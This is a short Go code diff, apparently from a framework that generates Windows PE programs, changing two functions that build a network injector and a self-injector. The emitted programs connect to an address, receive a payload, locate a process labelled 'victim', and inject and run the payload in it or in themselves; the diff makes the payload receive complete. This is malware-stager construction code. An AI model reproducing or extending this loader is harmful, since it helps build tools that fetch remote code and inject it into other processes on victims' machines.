@@ -145,7 +145,7 @@ func networkInjectorAt(name, victimName string, payloadLen uint32, addr gnet.Add
 	b.DataBlk.Label("victim").DataString(victimName)
 	buf := b.BSS(8192)
 	emitConnect(b, addr)
-	emitRecv(b, buf, payloadLen)
+	emitRecvAll(b, buf, payloadLen)
 	emitFindAndOpenProcess(b, "victim")
 	emitInjectAndRun(b, buf, payloadLen)
 	emitExit(b, 0)
@@ -157,7 +157,7 @@ func selfInjectorAt(name string, payloadLen uint32, addr gnet.Addr) Program {
 	b := peimg.NewBuilder(name)
 	buf := b.BSS(8192)
 	emitConnect(b, addr)
-	emitRecv(b, buf, payloadLen)
+	emitRecvAll(b, buf, payloadLen)
 	b.Text.Movi(isa.EBX, 0)
 	b.Text.Movi(isa.ECX, 0)
 	b.Text.Movi(isa.EDX, payloadLen)
